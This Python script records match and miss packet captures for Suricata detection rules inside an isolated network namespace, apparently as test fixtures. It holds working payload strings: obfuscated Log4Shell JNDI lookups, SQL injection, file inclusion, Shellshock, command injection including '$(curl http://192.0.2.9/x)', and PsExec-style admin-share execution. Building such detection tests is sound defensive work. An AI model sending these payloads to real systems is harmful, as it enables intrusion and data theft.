# ruff: noqa: S603, S607, INP001 - a script of fixed commands that needs root to run at all, beside data and in no package
"""Record the examples of the Suricata signatures again: what must set each off, and what must not.

    sudo .venv/bin/python rules/examples/suricata/record.py [DETECTION…]      (d09, d16, … all without a name)

Real programs (curl, OpenSSL, Samba with smbclient and net, Python's web server) talk over the loopback of a network
namespace of their own; nothing leaves it. Only the miner is a script that says what the stratum protocol says, for no
distribution has one. Needs root, dumpcap (tshark), curl, openssl, samba, smbclient and samba-common-bin. Each recording
is ``<detection>/match/<name>.pcap`` or ``<detection>/miss/<name>.pcap`` beside this file.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from pathlib import Path

HERE = Path(__file__).resolve().parent
SPACE = f"sw-rules-{os.getpid()}"
WEB, SECURE, POOL = 8080, 9001, 3333
USER = "root%geheim-voor-de-opname"


def inside(*command: str, text: str | None = None) -> str:
    """Run a program in the namespace to its end; its output. A failure is part of some recordings."""
    done = subprocess.run(
        ["ip", "netns", "exec", SPACE, *command], input=text, capture_output=True, text=True, check=False, timeout=60
    )
    return done.stdout + done.stderr


@contextlib.contextmanager
def running(*command: str, seconds: float = 0.7, stop: signal.Signals = signal.SIGTERM) -> Iterator[None]:
    """A program in the namespace while the body runs; ended by its pid."""
    program = subprocess.Popen(
        ["ip", "netns", "exec", SPACE, *command],
        stdin=subprocess.DEVNULL,
        start_new_session=True,  # smbd ends its whole process group with itself
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        time.sleep(seconds)
        if program.poll() is not None:
            raise SystemExit(f"{command[0]} did not start")
        yield
    finally:
        program.send_signal(stop)
        try:
            program.wait(5)
        except subprocess.TimeoutExpired:
            program.kill()
            program.wait()


@contextlib.contextmanager
def recording(path: Path) -> Iterator[None]:
    """Everything on the loopback, into a file."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with running("dumpcap", "-q", "-P", "-i", "lo", "-w", str(path), seconds=1.0, stop=signal.SIGINT):
        yield
        time.sleep(0.5)
    print(f"{path.relative_to(HERE)}: {path.stat().st_size} bytes")


def curl(*arguments: str) -> None:
    """One request to the web server."""
    inside("curl", "-s", "-o", "/dev/null", "--max-time", "5", "--path-as-is", *arguments)


@contextlib.contextmanager
def web(directory: Path) -> Iterator[str]:
    """Python's web server over a few pages; its address."""
    (directory / "zoek").write_text("resultaten\n", encoding="utf-8")
    with running(sys.executable, "-m", "http.server", str(WEB), "--bind", "127.0.0.1", "--directory", str(directory)):
        yield f"http://127.0.0.1:{WEB}"


def d16(scratch: Path) -> None:
    """Log4Shell."""
    headers = {
        "plain": ("User-Agent", "${jndi:ldap://192.0.2.9:1389/a}"),
        "capitals": ("X-Api-Version", "${JnDi:dns://192.0.2.9/a}"),
        "lower": ("Referer", "${${lower:j}ndi:${lower:l}${lower:d}ap://192.0.2.9/a}"),
        "default": ("X-Forwarded-For", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://192.0.2.9/a}"),
        "environment": ("Accept-Language", "${j${env:NIETS:-n}di:ldap://192.0.2.9/a}"),
        "cookie": ("Cookie", "sessie=${jndi:ldaps://192.0.2.9/a}"),
        "encoded": ("X-Naam", "%24%7Bjndi:ldap://192.0.2.9/a%7D"),
    }
    with web(scratch) as site:
        for name, (header, value) in headers.items():
            with recording(HERE / "d16-log4shell" / "match" / f"header-{name}.pcap"):
                curl("-H", f"{header}: {value}", f"{site}/zoek")
        for name, query in {
            "encoded": "q=%24%7bjndi%3aldap%3a%2f%2f192.0.2.9%2fa%7d",
            "nested": "q=%24%7b%24%7bupper%3aj%7dndi%3aldap%3a%2f%2f192.0.2.9%2fa%7d",
        }.items():
            with recording(HERE / "d16-log4shell" / "match" / f"uri-{name}.pcap"):
                curl(f"{site}/zoek?{query}")
        with recording(HERE / "d16-log4shell" / "miss" / "ordinary.pcap"):
            curl(f"{site}/zoek?q=java+jndi+ldap+uitleg")
            curl("-H", "X-Sjabloon: ${naam} en ${klas:-onbekend}", f"{site}/zoek")
            curl(f"{site}/zoek?sjabloon=%24%7bnaam%7d%20%7b%7b%20lower%20%7d%7d")


def d17(scratch: Path) -> None:
    """Web injection."""
    queries = {
        "sql-union": "id=1%27+union+select+naam%2Cwachtwoord+from+leerlingen%23",
        "sql-union-comment": "id=1/**/UNION/**/ALL/**/SELECT/**/1,2,3",
        "sql-true": "id=1%27%20or%20%271%27%3d%271",
        "sql-schema": "id=1+and+(select+1+from+information_schema.tables)",
        "sql-sleep": "id=1-sleep(5)",
        "sql-second": "id=1%27;drop+table+cijfers--",
        "file": "pagina=/etc/passwd",
        "command-argument": "host=127.0.0.1;cat+/etc/hosts",
        "command-substitution": "host=$(curl+http://192.0.2.9/x)",
        "command-alone": "host=127.0.0.1%3bwhoami",
    }
    with web(scratch) as site:
        for name, query in queries.items():
            with recording(HERE / "d17-web-injection" / "match" / f"{name}.pcap"):
                curl("--globoff", f"{site}/zoek?{query}")
        with recording(HERE / "d17-web-injection" / "match" / "traversal.pcap"):
            curl(f"{site}/../../../../boekenlijst.txt")
        with recording(HERE / "d17-web-injection" / "match" / "traversal-encoded.pcap"):
            curl(f"{site}/x?f=%2e%2e%2f%2e%2e%2f%2e%2e%2fgeheim")
        with recording(HERE / "d17-web-injection" / "match" / "sql-body.pcap"):
            curl("-d", "id=1%27+union+select+naam+from+leerlingen", f"{site}/zoek")
        with recording(HERE / "d17-web-injection" / "match" / "shellshock.pcap"):
            curl("-H", "User-Agent: () { :; }; /bin/id", f"{site}/zoek")
        with recording(HERE / "d17-web-injection" / "miss" / "ordinary.pcap"):
            for query in (
                "q=credit+union+selects+new+chair",
                "q=the+student+union+and+a+select+committee",
                "q=Romeo+and+Juliet%3A+%27love%27+or+%27hate%27%3F",
                "q=O%27Brien+and+sons",
                "naam=d%27Artagnan&klas=3%3d3",
                "sorteer=naam|klas&toon=10",
                "q=katten+%26+honden%3B+ls+of+lt",
                "q=hoe+werkt+sleep+bij+dieren",
                "terug=../lijst.html",
                "q=drop+table+tennis%3B+update+volgt",
                "filter=id;naam",
            ):
                curl("--globoff", f"{site}/zoek?{query}")
            curl("-d", "tekst=de+vakbond+(union)+mag+selecteren%2C+select+few", f"{site}/zoek")


def d22(scratch: Path) -> None:
    """Cryptominer."""
    target = "b" * 64
    conversations: dict[str, list[tuple[object, object]]] = {
        "match/stratum": [
            (
                {"id": 1, "method": "mining.subscribe", "params": ["voorbeeld/1.0"]},
                {"id": 1, "result": [[["mining.notify", "ae68"]], "08000002", 4], "error": None},
            ),
            (
                {"params": ["gebruiker.1", "x"], "id": 2, "method": "mining.authorize"},
                {"id": None, "method": "mining.set_difficulty", "params": [16]},
            ),
        ],
        "match/ethash": [
            (
                {
                    "worker": "pc1",
                    "jsonrpc": "2.0",
                    "params": ["0x" + "a" * 40, "x"],
                    "id": 2,
                    "method": "eth_submitLogin",
                },
                {"id": 2, "jsonrpc": "2.0", "result": True},
            ),
            (
                {"worker": "", "jsonrpc": "2.0", "params": [], "id": 3, "method": "eth_getWork"},
                {"id": 3, "jsonrpc": "2.0", "result": ["0x" + target, "0x" + target, "0x" + target]},
            ),
        ],
        "match/cryptonote": [
            (
                {
                    "id": 1,
                    "jsonrpc": "2.0",
                    "method": "login",
                    "params": {"login": "4" + "A" * 94, "pass": "x", "agent": "v/1"},
                },
                {
                    "id": 1,
                    "jsonrpc": "2.0",
                    "result": {
                        "id": "7",
                        "job": {"blob": "0" * 152, "job_id": "4", "target": "b88d0600"},
                        "status": "OK",
                    },
                },
            ),
        ],
        "miss/json-rpc": [
            ({"jsonrpc": "2.0", "method": "eth_blockNumber", "params": [], "id": 83}, {"id": 83, "result": "0x4b7"}),
            (
                {"jsonrpc": "2.0", "method": "eth_getBalance", "params": ["0x" + "a" * 40, "latest"], "id": 1},
                {"id": 1, "result": "0x0"},
            ),
            ({"id": 4, "method": "login", "params": {"user": "leerling", "pass": "x"}}, {"id": 4, "result": "OK"}),
            ({"login": "leerling@school.example", "pass": "x", "remember": True}, {"target": "/rooster", "job_id": 7}),
            ({"topic": "mining.notify", "text": "een les over mining.submit"}, {"ok": True}),
        ],
    }
    server = scratch / "pool.py"
    server.write_text(
        "import json, socket, sys\n"
        "listener = socket.create_server(('127.0.0.1', int(sys.argv[1])))\n"
        "answers = json.loads(sys.argv[2])\n"
        "peer, _ = listener.accept()\n"
        "lines = peer.makefile('rwb')\n"
        "for answer in answers:\n"
        "    lines.readline(); lines.write(json.dumps(answer).encode() + b'\\n'); lines.flush()\n",
        encoding="utf-8",
    )
    client = scratch / "miner.py"
    client.write_text(
        "import json, socket, sys\n"
        "lines = socket.create_connection(('127.0.0.1', int(sys.argv[1]))).makefile('rwb')\n"
        "for ask in json.loads(sys.argv[2]):\n"
        "    lines.write(json.dumps(ask).encode() + b'\\n'); lines.flush(); lines.readline()\n",
        encoding="utf-8",
    )
    for name, exchange in conversations.items():
        answers, asks = json.dumps([two for _, two in exchange]), json.dumps([one for one, _ in exchange])
        with (
            recording(HERE / "d22-cryptominer" / f"{name}.pcap"),
            running(sys.executable, str(server), str(POOL), answers),
        ):
            inside(sys.executable, str(client), str(POOL), asks)


def d23(scratch: Path) -> None:
    """Tor."""

    def handshake(path: Path, *, subject: str, issuer: str, name: str, version: str, alpn: str | None = None) -> None:
        key, certificate, root = (str(scratch / part) for part in ("key.pem", "cert.pem", "root.pem"))
        make = ("openssl", "req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "90")
        inside(*make, "-x509", "-keyout", f"{root}.key", "-out", root, "-subj", f"/CN={issuer}")
        inside(*make, "-keyout", key, "-out", f"{certificate}.csr", "-subj", f"/{subject}")
        inside(
            "openssl", "x509", "-req", "-in", f"{certificate}.csr", "-CA", root, "-CAkey", f"{root}.key", "-days", "90",
            "-CAcreateserial", "-out", certificate,
        )  # fmt: skip
        with (
            recording(path),
            running("openssl", "s_server", "-accept", str(SECURE), "-key", key, "-cert", certificate, "-quiet"),
        ):
            offered = ("-alpn", alpn) if alpn else ()
            inside(
                "openssl",
                "s_client",
                "-connect",
                f"127.0.0.1:{SECURE}",
                "-servername",
                name,
                version,
                *offered,
                text="Q\n",
            )

    base = HERE / "d23-tor"
    handshake(
        base / "match" / "certificate.pcap",
        subject="CN=www.q4x7mzk2vbd3aw.net",
        issuer="www.n3ujy6fe.com",
        name="www.hcbpmwkzfa.com",
        version="-tls1_2",
    )
    handshake(
        base / "match" / "server-name.pcap",
        subject="CN=verborgen",
        issuer="verborgen",
        name="www.zq3vk7ydm2ha.com",
        version="-tls1_3",
    )
    for name, server, version, alpn in (
        ("browser", "www.zq3vk7ydm2ha.com", "-tls1_3", "h2,http/1.1"),
        ("word", "www.rekenen4you.com", "-tls1_3", None),
        ("net", "www.zq3vk7ydm2ha.net", "-tls1_2", None),
    ):
        handshake(
            base / "miss" / f"{name}.pcap",
            subject=f"O=Voorbeeld/CN={server}",
            issuer="Voorbeeld CA",
            name=server,
            version=version,
            alpn=alpn,
        )


_SMB = """[global]
server role = standalone server
workgroup = SCHOOL
map to guest = never
passdb backend = smbpasswd
smb passwd file = {scratch}/smbpasswd
private dir = {scratch}/private
lock directory = {scratch}/lock
state directory = {scratch}/state
cache directory = {scratch}/cache
pid directory = {scratch}/pid
ncalrpc dir = {scratch}/ncalrpc
log file = {scratch}/log
interfaces = lo
bind interfaces only = yes
smb ports = 445
server smb encrypt = off
disable spoolss = yes
load printers = no
[ADMIN$]
path = {scratch}/windows
read only = no
[leerlingen]
path = {scratch}/leerlingen
read only = no
"""


def d09(scratch: Path) -> None:
    """Execution through an admin share."""
    for name in ("private", "lock", "state", "cache", "pid", "ncalrpc", "windows", "leerlingen"):
        (scratch / name).mkdir()
    settings = scratch / "smb.conf"
    settings.write_text(_SMB.format(scratch=scratch), encoding="utf-8")
    user, password = USER.split("%")
    inside("smbpasswd", "-c", str(settings), "-s", "-a", user, text=f"{password}\n{password}\n")
    program = scratch / "hulp.exe"
    program.write_bytes(b"MZ" + b"geen echt programma " * 100)
    with running("smbd", "-F", "--no-process-group", "-s", str(settings), seconds=2.0):

        def client(share: str, commands: str) -> None:
            inside("smbclient", f"//127.0.0.1/{share}", "-s", str(settings), "-U", USER, "-c", commands)

        def service(*command: str) -> None:
            inside("net", "rpc", "service", *command, "-S", "127.0.0.1", "-s", str(settings), "-U", USER)

        base = HERE / "d09-admin-share"
        with recording(base / "match" / "share-then-service.pcap"):
            client("ADMIN$", "ls")
            service("start", "Spooler")
        with recording(base / "match" / "service-then-share.pcap"):
            service("start", "Spooler")
            client("ADMIN$", "ls")
        with recording(base / "match" / "executable.pcap"):
            client("ADMIN$", f"put {program} hulp.exe")
        with recording(base / "match" / "pipe.pcap"):
            service("start", "Spooler")
            client("IPC$", "open PSEXESVC")
        with recording(base / "miss" / "pipe-alone.pcap"):
            client("IPC$", "open PSEXESVC")
        with recording(base / "miss" / "share-alone.pcap"):
            client("ADMIN$", "ls")
        with recording(base / "miss" / "service-list.pcap"):
            client("ADMIN$", "ls")
            service("list")
        with recording(base / "miss" / "executable-elsewhere.pcap"):
            client("leerlingen", f"put {program} hulp.exe; get hulp.exe {scratch}/terug.exe")
        with recording(base / "miss" / "service-alone.pcap"):
            service("start", "Spooler")


SCENARIOS: dict[str, Callable[[Path], None]] = {"d09": d09, "d16": d16, "d17": d17, "d22": d22, "d23": d23}


def main() -> None:
    """Record what is asked for."""
    parser = argparse.ArgumentParser(description="Record the examples of the Suricata signatures again.")
    parser.add_argument("detections", nargs="*", choices=[*SCENARIOS, []], help="which (all without a name)")
    chosen = parser.parse_args().detections or list(SCENARIOS)
    subprocess.run(["ip", "netns", "add", SPACE], check=True)
    try:
        inside("ip", "link", "set", "lo", "up")
        for name in chosen:
            with tempfile.TemporaryDirectory(prefix="sw-rules-") as scratch:
                Path(scratch).chmod(0o755)
                SCENARIOS[name](Path(scratch))
    finally:
        subprocess.run(["ip", "netns", "delete", SPACE], check=False)


if __name__ == "__main__":
    main()
